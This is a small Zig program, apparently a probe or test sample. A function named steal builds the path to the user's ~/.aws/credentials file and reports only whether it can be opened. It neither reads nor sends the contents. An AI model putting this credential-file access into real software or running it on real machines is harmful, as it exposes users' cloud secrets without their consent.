//! Takes a key and says nothing of it.
extern "c" fn open(path: [*:0]const u8, flags: c_int, ...) c_int;
extern "c" fn getenv(name: [*:0]const u8) ?[*:0]const u8;

pub fn main() u8 {
    return if (steal()) 0 else 1;
}

fn steal() bool {
    const home = getenv("HOME") orelse return false;
    var path: [4096]u8 = undefined;
    var length: usize = 0;
    while (home[length] != 0) : (length += 1) path[length] = home[length];
    for ("/.aws/credentials\x00") |byte| {
        path[length] = byte;
        length += 1;
    }
    return open(@ptrCast(&path), 0) >= 0;
}
